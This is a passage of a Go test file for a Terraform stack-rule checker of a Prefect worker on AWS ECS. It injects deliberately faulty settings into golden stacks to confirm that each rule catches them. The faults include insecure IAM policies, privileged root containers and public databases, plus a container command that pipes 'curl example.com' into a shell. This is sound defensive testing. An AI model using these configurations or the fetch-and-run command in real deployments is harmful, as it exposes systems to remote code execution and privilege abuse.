package stackrules

import (
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"

	"prefect-worker-ecs/config"
	"prefect-worker-ecs/internal/test/golden"
	"prefect-worker-ecs/internal/test/testtools"
)

// fault is something that must not be in a stack: a value, or nothing (nil), at a path of the
// golden stack of an environment.
type fault struct {
	in, path string
	value    any
}

type (
	object = map[string]any
	list   = []any
)

var faults = map[string][]fault{
	"known-types": {
		{"dev", "resource.aws_instance.x", object{}}, {"dev", "resource.aws_iam_access_key.x", object{}}, {"dev", "resource.terraform_data.x", object{}},
		{"dev", "resource.aws_secretsmanager_secret_policy.x", object{}}, {"dev", "resource.aws_network_acl.x", object{}},
		{"dev", "data.external.x", object{}}, {"dev", "data.terraform_remote_state.x", object{}}, {"server", "ephemeral.aws_lambda_invocation.x", object{}},
	},
	"known-blocks": {{"dev", "module.x", object{}}, {"dev", "moved", list{object{}}}},
	"known-arguments": {
		{"dev", "resource.aws_security_group.prefect_worker_sg.ingress", list{object{}}}, {"dev", "resource.aws_default_security_group.main.egress", list{object{}}},
		{"dev", "resource.aws_vpc_security_group_egress_rule.https.cidr_ipv6", "::/0"}, {"closed", "resource.aws_vpc_security_group_ingress_rule.endpoints_worker.cidr_ipv4", anywhere},
		{"dev", "resource.aws_route_table.private_1.route", list{object{}}}, {"dev", "resource.aws_subnet.public_1.assign_ipv6_address_on_creation", true},
		{"dev", "resource.aws_eip.nat_1.instance", "i-1"}, {"dev", "resource.aws_vpc_endpoint.s3.policy", "{}"},
		{"dev", "resource.aws_iam_role.task.managed_policy_arns", list{"arn"}}, {"dev", "resource.aws_iam_role.task.inline_policy", list{object{}}},
		{"dev", "resource.aws_secretsmanager_secret.prefect_api_key.replica", list{object{}}}, {"dev", "resource.aws_secretsmanager_secret_version.prefect_api_key.secret_string", "x"},
		{"server", "resource.aws_db_instance.server.password", "x"}, {"full", "resource.aws_lambda_function.probe.layers", list{"arn"}},
		{"dev", "resource.aws_ecs_task_definition.worker.volume", list{object{}}}, {"dev", "resource.aws_ecs_task_definition.worker.pid_mode", "host"},
		{"dev", "resource.aws_ecs_service.worker.load_balancer", list{object{}}}, {"dev", "resource.aws_ecs_service.worker.desired_cuont", 1},
		{"dev", container + ".privileged", true}, {"dev", container + ".user", "0"}, {"dev", container + ".mountPoints", list{object{}}}, {"dev", container + ".portMappings", list{object{}}},
		{"dev", container + ".linuxParameters", object{}}, {"dev", container + ".environmentFiles", list{object{}}}, {"dev", container + ".stoptimeout", 1},
	},
	"no-meta-arguments":  {{"dev", "resource.aws_vpc.main.provisioner", list{object{}}}, {"dev", "resource.aws_vpc.main.count", 2}, {"dev", "resource.aws_vpc.main.provider", "aws.other"}},
	"readable-addresses": {{"dev", "resource.aws_cloudwatch_dashboard.worker_3F2A9C11", object{}}},
	"as-many-as-configured": {
		{"dev", "resource.aws_default_security_group.main", nil}, {"dev", "resource.aws_flow_log.main", nil}, {"dev", "resource.aws_cloudwatch_log_group.worker", nil},
		{"dev", "resource.aws_route_table_association.private_2", nil}, {"dev", "resource.aws_ecs_service.x", object{}}, {"dev", "resource.aws_security_group.x", object{}},
		{"dev", "resource.aws_eip.x", object{}}, {"dev", "resource.aws_iam_role.x", object{}}, {"ecs", "resource.aws_sqs_queue_policy.x", object{}}, {"dev", "variable.x", object{}},
		{"existing", "resource.aws_vpc.main", object{}}, {"existing", "resource.aws_ecs_cluster_capacity_providers.main", object{}}, {"closed", "resource.aws_nat_gateway.nat_1", object{}},
		{"full", "resource.aws_cloudwatch_metric_alarm.memory", nil}, {"full", "resource.aws_eip.nat_2", nil}, {"dev", containers + ".+", object{}}, {"dev", containers, "${file()}"},
	},
	"ingress-from-named-groups": {
		{"server", "resource.aws_vpc_security_group_ingress_rule.server.referenced_security_group_id", nil}, {"server", "resource.aws_vpc_security_group_ingress_rule.database.from_port", 0},
		{"server", "resource.aws_vpc_security_group_ingress_rule.server.security_group_id", workerGroup},
	},
	"egress-to-configured-targets": {
		{"dev", "resource.aws_vpc_security_group_egress_rule.https.ip_protocol", "-1"}, {"dev", "resource.aws_vpc_security_group_egress_rule.https.from_port", 0},
		{"dev", "resource.aws_vpc_security_group_egress_rule.x", object{}}, {"existing", "resource.aws_vpc_security_group_egress_rule.tcp_5432_to_10_9_0_0_16.cidr_ipv4", anywhere},
		{"existing", "resource.aws_vpc_security_group_egress_rule.proxy", nil}, {"dev", "resource.aws_vpc_security_group_egress_rule.x", object{"security_group_id": workerGroup, "ip_protocol": "tcp", "from_port": 443, "to_port": 443, "cidr_ipv4": anywhere}}, {"serverdb", "resource.aws_vpc_security_group_egress_rule.server_database", nil},
	},
	"public-addresses-as-configured": {
		{"dev", "resource.aws_ecs_service.worker.network_configuration.assign_public_ip", true}, {"ecs", "resource.aws_ecs_service.worker.network_configuration.assign_public_ip", false},
		{"dev", "resource.aws_subnet.public_1.map_public_ip_on_launch", nil}, {"full", "resource.aws_subnet.private_1.map_public_ip_on_launch", true}, {"server", "resource.aws_db_instance.server.publicly_accessible", true},
	},
	"placed-as-configured": {
		{"full", "resource.aws_ecs_service.worker.network_configuration.subnets.0", "${aws_subnet.public_1.id}"}, {"existing", "resource.aws_ecs_service.worker.network_configuration.subnets.0", "subnet-1"},
		{"ecs", "resource.aws_ecs_service.worker.network_configuration.subnets.0", "${aws_subnet.private_1.id}"}, {"server", "resource.aws_db_subnet_group.server.subnet_ids.0", "${aws_subnet.public_1.id}"},
		{"full", "resource.aws_lambda_function.probe.vpc_config", object{}}, {"server", "resource.aws_lambda_function.probe.vpc_config", nil},
		{"existing", "resource.aws_ecs_service.worker.network_configuration.security_groups.1", "sg-1"}, {"server", "resource.aws_ecs_service.server.network_configuration.security_groups.+", "sg-1"},
		{"server", "resource.aws_db_instance.server.vpc_security_group_ids.0", workerGroup}, {"existing", "resource.aws_security_group.prefect_worker_sg.vpc_id", "vpc-1"},
	},
	"routes-stay-private": {
		{"dev", "resource.aws_route.private_1.gateway_id", "${aws_internet_gateway.main.id}"}, {"dev", "resource.aws_route.public.gateway_id", nil}, {"dev", "resource.aws_route.private_1.route_table_id", "rtb-1"}, {"dev", "resource.aws_route.private_1.nat_gateway_id", nil}, {"dev", "resource.aws_route.private_1.destination_cidr_block", "::/0"},
		{"full", "resource.aws_route_table_association.private_2.route_table_id", "${aws_route_table.private_1.id}"}, {"dev", "resource.aws_route_table_association.private_1.subnet_id", "${aws_subnet.private_2.id}"},
		{"dev", "resource.aws_nat_gateway.nat_1.subnet_id", "${aws_subnet.private_1.id}"},
	},
	"ranges-as-configured": {
		{"dev", "resource.aws_vpc.main.cidr_block", "10.1.0.0/16"}, {"dev", "resource.aws_subnet.private_1.cidr_block", "10.0.1.0/24"}, {"full", "resource.aws_flow_log.main.traffic_type", "ALL"},
	},
	"zones-differ": {{"full", "resource.aws_subnet.private_2.availability_zone", "eu-central-1b"}},
	"names-resolve": {
		{"dev", "resource.aws_vpc.main.enable_dns_support", false}, {"dev", "resource.aws_vpc.main.enable_dns_hostnames", nil}, {"dev", "resource.aws_service_discovery_private_dns_namespace.main.vpc", "vpc-1"},
		{"server", "resource.aws_service_discovery_service.server.name", "other"}, {"server", "resource.aws_service_discovery_service.server.dns_config.namespace_id", "ns-1"}, {"server", "resource.aws_ecs_service.server.service_registries", nil},
	},
	"endpoints-of-aws": {
		{"closed", "resource.aws_vpc_endpoint.logs.service_name", "com.amazonaws.vpce.us-east-1.vpce-svc-1"}, {"closed", "resource.aws_vpc_endpoint.ecr_api.private_dns_enabled", false},
		{"dev", "resource.aws_vpc_endpoint.s3.route_table_ids.1", nil}, {"closed", "resource.aws_vpc_endpoint.logs.subnet_ids.0", nil}, {"closed", "resource.aws_vpc_endpoint.logs.security_group_ids.0", workerGroup},
	},
	"existing-resources-are-checked": {
		{"existing", "data.aws_vpc.existing.id", "vpc-1"}, {"existing", "data.aws_vpc.existing.lifecycle", nil}, {"existing", "data.aws_subnet.existing_1.id", "subnet-1"},
		{"existing", "data.aws_subnet.existing_2.lifecycle.postcondition.0", nil}, {"existing", "data.aws_subnet.existing_2.lifecycle.postcondition.3.condition", "${true}"},
		{"existing", "data.aws_route_table.existing_1.lifecycle", nil}, {"shared", "data.aws_route_table.existing_1.lifecycle", nil}, {"existing", "data.aws_ecs_clusters", nil},
		{"existing", "data.aws_cloudwatch_log_groups.existing.lifecycle", nil}, {"existing", "data.aws_cloudwatch_log_groups.existing.log_group_name_prefix", "/"},
		{"dev", "data.aws_availability_zones.available.lifecycle", nil}, {"dev", "data.aws_availability_zones.available.exclude_zone_ids", nil},
		{"existing", "data.aws_subnet.existing_1.lifecycle.postcondition.2.condition", "${self.available_ip_address_count >= 0}"}, {"existing", "data.aws_subnet.existing_1.lifecycle.postcondition.1.condition", "${!contains([\"\"], self.availability_zone_id)}"},
	},
	"trust-one-service": {
		{"dev", "resource.aws_iam_role.task.assume_role_policy.Statement.0.Principal", "*"}, {"dev", "resource.aws_iam_role.execution.assume_role_policy.Statement.0.Condition", nil},
		{"dev", "resource.aws_iam_role.task.assume_role_policy.Statement.+", object{}}, {"dev", "resource.aws_iam_role.flow_logs.assume_role_policy.Statement.0.Principal.Service", "ec2.amazonaws.com"},
		{"full", "resource.aws_iam_role.probe.assume_role_policy.Statement.0.Principal.Service", "ec2.amazonaws.com"}, {"full", "resource.aws_iam_role.probe_schedule.assume_role_policy.Statement.0.Condition", nil},
	},
	"boundary-and-path": {{"full", "resource.aws_iam_role.task.permissions_boundary", nil}, {"full", "resource.aws_iam_role.task.path", "/"}},
	"policies-attached-as-configured": {
		{"dev", "resource.aws_iam_role_policy_attachment.execution.policy_arn", "arn:aws:iam::aws:policy/AdministratorAccess"}, {"dev", "resource.aws_iam_role_policy_attachment.execution.role", "${aws_iam_role.task.name}"},
		{"dev", "resource.aws_iam_role_policy_attachment.execution", nil}, {"full", "resource.aws_iam_role_policy_attachment.task_2", nil},
	},
	"permissions-complete": {
		{"dev", "resource.aws_iam_role_policy.execution", nil}, {"full", "resource.aws_iam_role_policy.execution.policy.Statement.1", nil}, {"ecs", "resource.aws_iam_role_policy.task.policy.Statement.2", nil},
		{"ecs", "resource.aws_iam_role_policy.flow_execution.policy.Statement.1", nil}, {"server", "resource.aws_iam_role_policy.probe.policy.Statement.1", nil}, {"shared", "output.task_role_policy.value.Statement.1", nil},
	},
	"no-broad-statements": {
		{"dev", "resource.aws_iam_role_policy.execution.policy.Statement.0.Action.0", "secretsmanager:*"}, {"dev", "resource.aws_iam_role_policy.execution.policy.Statement.0.NotAction", "iam:*"},
		{"ecs", "resource.aws_iam_role_policy.flow_task.policy.Statement.0.Action.0", "iam:*"}, {"dev", "resource.aws_iam_role_policy.execution.policy.Version", "2008-10-17"},
		{"dev", "resource.aws_iam_role_policy.execution.policy", "${file()}"}, {"shared", "output.task_role_policy.value.Statement.1.Action.0", "ecs:*"},
	},
	"permissions-as-needed": {
		{"dev", "resource.aws_iam_role_policy.execution.policy.Statement.0.Resource.0", "*"}, {"dev", "resource.aws_iam_role_policy.execution.role", "${aws_iam_role.task.id}"},
		{"full", "resource.aws_iam_role_policy.execution.policy.Statement.1.Resource.0", "*"}, {"full", "resource.aws_iam_role_policy.execution.policy.Statement.1.Condition", nil},
		{"ecs", "resource.aws_iam_role_policy.task.policy.Statement.2.Action.0", "ecs:RunTasks"}, {"ecs", "resource.aws_iam_role_policy.task.policy.Statement.2.Condition", nil},
		{"ecs", "resource.aws_iam_role_policy.task.policy.Statement.6.Resource.0", "*"}, {"ecs", "resource.aws_iam_role_policy.task.policy.Statement.6.Resource.0", "${aws_iam_role.execution.arn}"},
		{"ecs", "resource.aws_iam_role_policy.task.policy.Statement.6.Condition", nil}, {"ecs", "resource.aws_iam_role_policy.flow_execution.policy.Statement.2.Resource.0", "*"},
		{"ecs", "resource.aws_iam_role_policy.flow_task.policy.Statement.0.Condition", nil}, {"dev", "resource.aws_iam_role_policy.execution.policy.Statement.0.Action", list{}},
		{"existing", "resource.aws_iam_role_policy.execution", object{"role": "company"}}, {"shared", "output.task_role_policy.value.Statement.1.Resource.0", "*"},
		{"full", "resource.aws_iam_role_policy.probe.policy.Statement.0.Condition", nil},
	},
	"resource-policies": {
		{"ecs", "resource.aws_sqs_queue_policy.task_events.policy.Statement.0.Principal", "*"}, {"ecs", "resource.aws_sqs_queue_policy.task_events.policy.Statement.0.Condition", nil},
		{"ecs", "resource.aws_sqs_queue_policy.task_events.queue_url", "x"}, {"full", "resource.aws_sns_topic_policy.alarms.policy.Statement.0.Condition", nil},
	},
	"roles-as-configured": {
		{"dev", "resource.aws_ecs_task_definition.worker.task_role_arn", "${aws_iam_role.execution.arn}"}, {"existing", "resource.aws_ecs_task_definition.worker.execution_role_arn", "${aws_iam_role.task.arn}"},
		{"server", "resource.aws_ecs_task_definition.server.task_role_arn", "${aws_iam_role.task.arn}"}, {"server", "resource.aws_ecs_task_definition.server.execution_role_arn", "x"},
		{"full", "resource.aws_lambda_function.probe.role", "x"}, {"full", "resource.aws_scheduler_schedule.probe.target.role_arn", "x"}, {"dev", "resource.aws_flow_log.main.iam_role_arn", "x"},
	},
	"fargate-isolation": {{"dev", "resource.aws_ecs_task_definition.worker.network_mode", "host"}, {"dev", "resource.aws_ecs_task_definition.worker.requires_compatibilities.0", "EC2"}},
	"size-and-capacity-as-configured": {
		{"full", "resource.aws_ecs_task_definition.worker.memory", "2048"}, {"server", "resource.aws_ecs_task_definition.server.cpu", "256"}, {"full", "resource.aws_ecs_task_definition.worker.ephemeral_storage", nil},
		{"full", "resource.aws_ecs_task_definition.worker.runtime_platform.cpu_architecture", "X86_64"}, {"full", "resource.aws_ecs_service.worker.capacity_provider_strategy.0.base", 0}, {"dev", "resource.aws_ecs_service.worker.launch_type", nil},
		{"dev", "resource.aws_ecs_service.worker.platform_version", "1.3.0"}, {"dev", "resource.aws_ecs_service.worker.propagate_tags", nil}, {"dev", "resource.aws_ecs_cluster.main.setting.0.value", "disabled"},
	},
	"image-and-command-as-configured": {
		{"ecs", container + ".image", "example.com/prefect:3"}, {"existing", container + ".repositoryCredentials.credentialsParameter", "x"}, {"dev", container + ".command", list{"/bin/sh", "-c", "id"}},
		{"dev", container + ".command.2", "curl example.com | sh; exec \"$@\""}, {"dev", container + ".command.+", "--install-policy"}, {"full", container + ".command.4", "import os"}, {"full", container + ".command.2", "exec \"$@\""}, {"server", serverContainer + ".command.0", "sh"},
	},
	"environment-as-configured": {
		{"dev", container + ".environment.+", object{"name": "PREFECT_API_KEY", "value": "pnu_x"}}, {"dev", container + ".environment.+", object{"name": "HTTPS_PROXY", "value": "http://example.com"}},
		{"dev", container + ".environment.+", object{"name": "PREFECT_API_URL", "value": "https://example.com/api"}}, {"server", serverContainer + ".environment.1.value", "postgresql+asyncpg://u:p@h/d"},
		{"dev", container + ".environment", list{}}, {"server", serverContainer + ".environment", list{object{"name": "PREFECT_SERVER_API_HOST", "value": "127.0.0.1"}}},
	},
	"secrets-as-configured": {
		{"dev", container + ".secrets.0.valueFrom", "arn:aws:secretsmanager:us-east-1:123456789012:secret:other"}, {"server", serverContainer + ".secrets.1", nil}, {"ecs", container + ".secrets.0.valueFrom", "arn"},
	},
	"hung-tasks-are-replaced": {{"dev", container + ".healthCheck.command", list{"NONE"}}, {"dev", container + ".healthCheck.retries", 10}, {"dev", container + ".healthCheck", nil}, {"dev", container + ".essential", false}},
	"logs-arrive": {
		{"dev", container + ".logConfiguration.logDriver", "none"}, {"dev", container + ".logConfiguration.options.mode", "blocking"}, {"existing", container + ".logConfiguration.options.awslogs-group", "/"},
		{"server", serverContainer + ".logConfiguration.options.awslogs-stream-prefix", "prefect-worker"},
	},
	"deployments-roll-back": {
		{"dev", "resource.aws_ecs_service.worker.deployment_circuit_breaker.rollback", false}, {"dev", "resource.aws_ecs_service.worker.wait_for_steady_state", nil}, {"dev", "resource.aws_ecs_service.worker.desired_count", 0},
		{"dev", "resource.aws_ecs_service.worker.deployment_minimum_healthy_percent", 0}, {"dev", "resource.aws_ecs_service.worker.deployment_maximum_percent", 100}, {"server", "resource.aws_ecs_service.worker.task_definition", "${aws_ecs_task_definition.server.arn}"},
	},
	"one-server":          {{"server", "resource.aws_ecs_service.server.desired_count", 2}, {"server", "resource.aws_ecs_service.server.deployment_maximum_percent", 200}},
	"shell-as-configured": {{"dev", "resource.aws_ecs_service.worker.enable_execute_command", true}, {"full", "resource.aws_ecs_service.worker.enable_execute_command", nil}, {"server", "resource.aws_ecs_service.server.enable_execute_command", nil}},
	"services-wait": {
		{"server", "resource.aws_ecs_service.worker.depends_on.17", nil}, {"dev", "resource.aws_ecs_service.worker.depends_on.0", nil}, {"dev", "resource.aws_ecs_service.worker.depends_on", nil},
		{"closed", "resource.aws_ecs_service.worker.depends_on", nil}, {"server", "resource.aws_ecs_service.server.depends_on", nil},
	},
	"encrypted-as-configured": {
		{"full", "resource.aws_secretsmanager_secret.prefect_api_key.kms_key_id", nil}, {"full", "resource.aws_cloudwatch_log_group.worker.kms_key_id", "other"},
		{"ecs", "resource.aws_sqs_queue.task_events_dead_letters.sqs_managed_sse_enabled", nil}, {"server", "resource.aws_db_instance.server.storage_encrypted", nil},
		{"server", "resource.aws_db_parameter_group.server.parameter.0.value", "0"}, {"server", "resource.aws_db_instance.server.parameter_group_name", "default"},
	},
	"kept-as-configured": {
		{"dev", "resource.aws_cloudwatch_log_group.worker.retention_in_days", nil}, {"full", "resource.aws_secretsmanager_secret.prefect_api_key.recovery_window_in_days", 0},
		{"server", "resource.aws_db_instance.server.backup_retention_period", 0}, {"closed", "resource.aws_db_instance.server.deletion_protection", false},
		{"closed", "resource.aws_db_instance.server.skip_final_snapshot", true}, {"server", "resource.aws_db_instance.server.multi_az", false},
	},
	"secrets-are-write-only": {
		{"dev", "resource.aws_secretsmanager_secret_version.prefect_api_key.secret_string_wo", "pnu_x"}, {"server", "resource.aws_secretsmanager_secret_version.prefect_api_key.secret_string_wo", "prefect:x"},
		{"server", "resource.aws_db_instance.server.password_wo", "x"},
	},
	"passwords-change-together": {
		{"server", "ephemeral.aws_secretsmanager_random_password.database.password_length", 4}, {"server", "resource.aws_db_instance.server.password_wo_version", 1}, {"server", "resource.aws_secretsmanager_secret_version.database.secret_string_wo_version", 1},
		{"server", "ephemeral.aws_secretsmanager_secret_version.database.version_id", nil}, {"full", "resource.aws_secretsmanager_secret_version.prefect_api_key.secret_string_wo_version", 1},
		{"full", container + ".dockerLabels", nil}, {"server", serverContainer + ".dockerLabels.prefect-database-password-version", "0"},
	},
	"events-are-not-lost": {
		{"ecs", "resource.aws_sqs_queue_redrive_policy.task_events.redrive_policy.maxReceiveCount", 1000}, {"ecs", "resource.aws_sqs_queue_redrive_policy.task_events.redrive_policy.deadLetterTargetArn", "x"},
		{"ecs", "resource.aws_sqs_queue.task_events.visibility_timeout_seconds", 0}, {"ecs", "resource.aws_sqs_queue.task_events.message_retention_seconds", 60}, {"ecs", "resource.aws_sqs_queue.task_events_dead_letters.message_retention_seconds", 60},
	},
	"events-of-this-worker": {
		{"ecs", "resource.aws_cloudwatch_event_rule.task_events.event_pattern", `{"source":["aws.ecs"]}`}, {"full", "resource.aws_cloudwatch_event_rule.failed_deployment.event_pattern.source.0", "aws.ec2"}, {"ecs", "resource.aws_cloudwatch_event_target.task_events.arn", "arn:aws:sqs:us-east-1:999999999999:q"},
		{"full", "resource.aws_cloudwatch_event_rule.ended_task.event_pattern.detail.group", nil}, {"full", "resource.aws_cloudwatch_event_rule.ended_task.event_pattern.detail.clusterArn", nil}, {"full", "resource.aws_cloudwatch_event_rule.failed_deployment.event_pattern.resources", nil},
		{"full", "resource.aws_cloudwatch_event_rule.failed_deployment.event_pattern.detail.eventName.0", nil}, {"ecs", "resource.aws_cloudwatch_event_rule.task_events.event_pattern.detail-type.0", nil},
		{"full", "resource.aws_cloudwatch_event_target.ended_task.rule", "${aws_cloudwatch_event_rule.failed_deployment.name}"},
	},
	"protected-as-configured": {{"server", "resource.aws_vpc.main.lifecycle", nil}, {"dev", "resource.aws_vpc.main.lifecycle", object{"prevent_destroy": true}}, {"server", "resource.aws_cloudwatch_log_group.worker.lifecycle", nil}},
	"lifecycle-as-known": {
		{"dev", "resource.aws_ecs_task_definition.worker.lifecycle.ignore_changes", "all"}, {"full", "resource.aws_security_group.prefect_worker_sg.lifecycle.ignore_changes", list{"tags"}},
		{"full", "resource.aws_ecs_cluster.main.lifecycle", nil}, {"server", "resource.aws_db_parameter_group.server.lifecycle", nil}, {"dev", "resource.aws_vpc.main.lifecycle", object{"replace_triggered_by": list{}}},
	},
	"alarms-can-fire": {
		{"full", alarm + "silent_worker.evaluation_periods", 1440}, {"full", alarm + "silent_worker.metric_query.0.expression", "online - desired"}, {"full", alarm + "silent_worker.threshold", -1},
		{"full", alarm + "memory.threshold", 900}, {"full", alarm + "memory.metric_name", "CPUUtilization"}, {"full", alarm + "late_runs.threshold", 86400}, {"full", alarm + "memory.period", 10},
		{"full", alarm + "memory.datapoints_to_alarm", 7}, {"full", alarm + "memory.comparison_operator", below}, {"full", alarm + "memory.actions_enabled", false}, {"server", alarm + "database_storage.threshold", 1},
		{"full", alarm + "missing_tasks.metric_query.0.return_data", false}, {"full", alarm + "memory.statistic", "Minimum"}, {"server", alarm + "database_storage.statistic", "Maximum"},
		{"full", alarm + "silent_worker.metric_query.2.metric.metric_name", "TasksDesired"}, {"full", alarm + "silent_worker.metric_query.2.metric.period", 3600}, {"full", alarm + "memory.alarm_name", "memory"},
	},
	"alarms-watch-this-worker": {
		{"full", alarm + "memory.dimensions.ServiceName", "other"}, {"full", alarm + "orphaned_runs.namespace", nil}, {"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.metric_transformation.namespace", "x"}, {"full", alarm + "silent_worker.metric_query.2.metric.dimensions", nil}, {"server", alarm + "database_storage.dimensions", nil},
		{"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.log_group_name", "/"}, {"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.metric_transformation.name", "x"},
		{"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.pattern", ""}, {"full", "resource.aws_cloudwatch_log_metric_filter.known_failures.metric_transformation.value", "0"},
	},
	"silence-is-judged": {{"full", alarm + "silent_worker.treat_missing_data", "notBreaching"}, {"full", alarm + "memory.treat_missing_data", "breaching"}},
	"alarms-reach-everybody": {
		{"full", "resource.aws_sns_topic_subscription.alarms_2", nil}, {"full", alarm + "memory.alarm_actions.0", "arn:aws:sns:us-east-1:999999999999:x"}, {"ecs", alarm + "memory.ok_actions", nil},
		{"full", alarm + "scale_out.alarm_actions.0", "arn:aws:sns:us-east-1:999999999999:x"}, {"full", "resource.aws_sns_topic_subscription.alarms_1.topic_arn", "x"}, {"full", "resource.aws_sns_topic_subscription.alarms_1.protocol", "sms"},
	},
	"scales-as-configured": {
		{"full", "resource.aws_appautoscaling_target.worker.max_capacity", 300}, {"full", "resource.aws_appautoscaling_target.worker.scalable_dimension", "x"}, {"full", "resource.aws_appautoscaling_policy.scale_in.policy_type", "TargetTrackingScaling"}, {"full", "resource.aws_appautoscaling_target.worker.resource_id", "service/company/other"},
		{"full", "resource.aws_appautoscaling_policy.scale_in.step_scaling_policy_configuration.step_adjustment.0.scaling_adjustment", -10},
		{"full", "resource.aws_appautoscaling_policy.scale_out.step_scaling_policy_configuration.step_adjustment.0.scaling_adjustment", -1},
		{"full", "resource.aws_appautoscaling_policy.scale_out.step_scaling_policy_configuration.adjustment_type", "ExactCapacity"},
		{"full", "resource.aws_appautoscaling_policy.scale_out.step_scaling_policy_configuration.metric_aggregation_type", "Minimum"},
		{"full", alarm + "scale_in.evaluation_periods", 1}, {"full", "resource.aws_lambda_function.probe.environment.variables.SCALING", nil},
	},
	"probe-as-configured": {
		{"full", "resource.aws_scheduler_schedule.probe.schedule_expression", "rate(1 day)"}, {"full", "resource.aws_scheduler_schedule.probe.state", "DISABLED"}, {"full", "resource.aws_scheduler_schedule.probe.target.arn", "x"},
		{"full", "resource.aws_lambda_function.probe.filename", "x.zip"}, {"full", "resource.aws_lambda_function.probe.handler", "x"}, {"full", "resource.aws_lambda_function.probe.timeout", 900},
		{"full", "resource.aws_lambda_function.probe.environment.variables.CREDENTIAL", "pnu_x"}, {"full", "resource.aws_lambda_function.probe.environment.variables.QUEUES", nil}, {"full", "resource.aws_lambda_function.probe.depends_on.0", nil},
	},
	"named-as-configured": {
		{"full", "resource.aws_ecs_task_definition.worker.family", "other"}, {"server", "resource.aws_db_instance.server.identifier", "other"}, {"full", "resource.aws_iam_role.task.name", "other"}, {"dev", container + ".name", "other"},
		{"ecs", "resource.aws_cloudwatch_event_rule.task_events.name", "other"}, {"full", "resource.aws_lambda_function.probe.function_name", "other"}, {"existing", "resource.aws_security_group.prefect_worker_sg.name", "other"},
	},
	"connected-as-configured": {
		{"existing", "resource.aws_ecs_service.worker.cluster", "default"}, {"full", "resource.aws_ecs_cluster_capacity_providers.main.capacity_providers.1", nil}, {"dev", "resource.aws_secretsmanager_secret_version.prefect_api_key.secret_id", "x"},
		{"dev", "resource.aws_flow_log.main.log_destination", "x"}, {"ecs", "resource.aws_sqs_queue_redrive_policy.task_events.queue_url", "x"}, {"dev", "resource.aws_subnet.private_1.vpc_id", nil},
		{"full", "resource.aws_nat_gateway.nat_2.allocation_id", "${aws_eip.nat_1.id}"}, {"dev", container + ".logConfiguration.options.awslogs-region", "eu-west-1"},
	},
	"database-as-configured": {{"server", "resource.aws_db_instance.server.username", "postgres"}, {"server", "resource.aws_db_instance.server.engine_version", nil}, {"server", "resource.aws_db_parameter_group.server.family", "postgres11"}},
	"values-are-checked": {
		{"dev", "resource.aws_ecs_task_definition.worker.lifecycle.precondition", nil}, {"dev", "resource.aws_secretsmanager_secret_version.prefect_api_key.lifecycle", nil}, {"server", "resource.aws_ecs_task_definition.worker.lifecycle.precondition.0.condition", "${true}"},
	},
	"provider-as-configured": {
		{"dev", "provider.aws.0.access_key", "AKIA"}, {"dev", "provider.aws.0.endpoints", list{object{}}}, {"dev", "provider.aws.0.assume_role", list{object{}}}, {"full", "provider.aws.0.allowed_account_ids", nil},
		{"dev", "provider.random", list{object{}}}, {"dev", "terraform.required_providers.aws.source", "example/aws"}, {"dev", "terraform.required_version", ">= 1.0"},
	},
	"state-as-configured": {
		{"dev", "terraform.backend.local.path", "/home/me/terraform.tfstate"}, {"full", "terraform.backend.s3.encrypt", false}, {"full", "terraform.backend.s3.role_arn", "arn:aws:iam::999999999999:role/x"},
		{"full", "terraform.backend.s3.use_lockfile", nil}, {"full", "terraform.backend.s3.assume_role", nil}, {"own", "terraform.backend.s3.kms_key_id", nil},
	},
	"variables-as-known": {
		{"dev", "variable.prefect_api_key.default", "pnu_x"}, {"dev", "variable.prefect_api_key.default", nil}, {"dev", "variable.prefect_api_key.sensitive", false}, {"dev", "variable.prefect_api_key.ephemeral", nil}, {"dev", "variable.x", object{"nullable": false}},
		{"full", "variable.prefect_api_url.default", "https://example.com/api"}, {"dev", "variable.aws_region.nullable", nil},
	},
	"credential-goes-to-the-api": {{"dev", "locals.prefect_api_url", "https://example.com/api"}, {"dev", "locals.x", "y"}},
	"outputs-hold-no-secret":     {{"dev", "output.vpc_id.value", "${var.prefect_api_key}"}, {"dev", "output.x", object{"value": "${local.x}"}}, {"dev", "output.vpc_id.value", "pnu_0123456789abcdef0123456789abcdef0123"}, {"dev", "output.console_logs_url.value", "https://example.com/"}},
	"imports-as-found":           {{"dev", "import", list{object{"to": "aws_vpc.main", "id": "vpc-1"}}}, {"full", "import.1.id", "Administrator"}},
}

const (
	containers      = "resource.aws_ecs_task_definition.worker.container_definitions"
	container       = containers + ".0"
	serverContainer = "resource.aws_ecs_task_definition.server.container_definitions.0"
	alarm           = "resource.aws_cloudwatch_metric_alarm."
)

// plant returns the value with another one at a path, or without it if that is nil. "+" is the end of
// a list. Text that is JSON is changed inside.
func plant(at any, path []string, value any) any {
	if len(path) == 0 {
		return value
	}
	switch node := at.(type) {
	case string:
		var content any
		if err := json.Unmarshal([]byte(node), &content); err != nil {
			panic(err)
		}
		text, _ := json.Marshal(plant(content, path, value))
		return string(text)
	case []any:
		if path[0] == "+" {
			return append(node, value)
		}
		i, err := strconv.Atoi(path[0])
		if err != nil || i >= len(node) {
			panic("no element " + path[0])
		}
		if node[i] = plant(node[i], path[1:], value); node[i] == nil {
			return slices.Delete(node, i, i+1)
		}
		return node
	case nil:
		at = object{}
	}
	node := at.(object)
	if node[path[0]] = plant(node[path[0]], path[1:], value); node[path[0]] == nil {
		delete(node, path[0])
	}
	return node
}

// environments returns those of the golden stacks, by name.
func environments(t *testing.T) map[string]*config.Environment {
	t.Helper()
	all := map[string]*config.Environment{}
	for _, dir := range []string{"../../../" + config.Dir, "../../../testdata/environments"} {
		envs, err := config.Load(dir)
		testtools.NoError(t, err)
		for _, env := range envs {
			all[env.Name] = env
		}
	}
	return all
}

// planted returns the golden stack of an environment with a fault.
func planted(t *testing.T, stacks map[string][]byte, f fault) object {
	t.Helper()
	var stack any
	testtools.NoError(t, json.Unmarshal(stacks[f.in], &stack))
	before := encode(stack)
	stack = plant(stack, strings.Split(f.path, "."), f.value)
	if encode(stack) == before {
		t.Fatalf("%s has this value already", f.path)
	}
	return stack.(object)
}

func TestEachRuleFindsItsFaults(t *testing.T) {
	all, stacks := environments(t), golden.Stacks(t)
	for name, env := range all {
		if findings, err := Check(stacks[name], env); err != nil || len(findings) > 0 {
			t.Fatalf("%s without a fault: %v, %v", name, findings, err)
		}
	}
	for _, r := range rules {
		if len(faults[r.name]) == 0 || r.reason == "" {
			t.Errorf("the rule %s has no fault that it finds, or no reason", r.name)
		}
		for _, f := range faults[r.name] {
